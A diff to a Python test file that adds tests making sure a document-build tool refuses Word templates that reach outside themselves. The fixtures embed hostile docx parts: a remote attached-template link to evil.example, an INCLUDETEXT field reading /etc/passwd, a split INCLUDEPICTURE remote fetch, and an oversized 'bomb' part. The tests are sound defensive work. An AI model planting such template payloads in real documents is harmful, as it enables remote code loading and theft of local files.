@@ -522,3 +522,40 @@ def test_pandoc_is_held_to_a_time_and_a_size(mini: Path, tmp_path: Path,
     assert large.exit_code == 1 and "Traceback" not in large.output
     assert "bytes, over the limit of 1,000" in " ".join(large.output.split())
     assert not (tmp_path / "mini" / "standard.docx").exists()  # nothing half-made is left
+
+
+def _template_with(tmp_path: Path, changes: dict[str, bytes]) -> Path:
+    """A style `house` whose reference.docx is the standard one with `changes` to its parts."""
+    folder = tmp_path / "styles" / "house"
+    folder.mkdir(parents=True)
+    (folder / "style.yaml").write_text("extends: standard\nreference_docx: reference.docx\n",
+                                       encoding="utf-8")
+    source = Path(word.__file__).resolve().parent.parent / "templates" / "standard"
+    with zipfile.ZipFile(source / "reference.docx") as original, \
+            zipfile.ZipFile(folder / "reference.docx", "w", zipfile.ZIP_DEFLATED) as copy:
+        for part in original.infolist():
+            copy.writestr(part.filename, changes.pop(part.filename, original.read(part)))
+        for name, data in changes.items():
+            copy.writestr(name, data)
+    return tmp_path / "styles"
+
+
+@pytest.mark.parametrize(("changes", "said"), [
+    ({"word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="rIdT" Type="http://'
+      b'schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+      b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'},
+     "reaches outside itself"),
+    ({"word/header9.xml": b'<w:hdr><w:p><w:fldSimple w:instr=\'INCLUDETEXT "/etc/passwd"\'/>'
+      b"</w:p></w:hdr>"}, "reaches outside itself"),
+    ({"word/header9.xml": b"<w:hdr><w:p><w:r><w:instrText>INCLUDEPIC</w:instrText></w:r><w:r>"
+      b'<w:instrText>TURE "http://x/y.png"</w:instrText></w:r></w:p></w:hdr>'}, "INCLUDE"),
+    ({"word/bomb.xml": b" " * (word.MAX_TEMPLATE_UNPACKED + 1)}, "unpacks to more than"),
+])
+def test_a_word_template_that_reaches_outside_itself_is_refused(tmp_path: Path, changes: dict,
+                                                                said: str):
+    styles = _template_with(tmp_path, dict(changes))
+    result = CliRunner().invoke(app, ["build", str(MINI), "-f", "docx", "-s", "house",
+                                      "--templates", str(styles), "-o", str(tmp_path / "out")])
+    assert result.exit_code == 1
+    assert said in result.output and "reference_docx" in result.output
+    assert not (tmp_path / "out" / "mini" / "house.docx").exists()
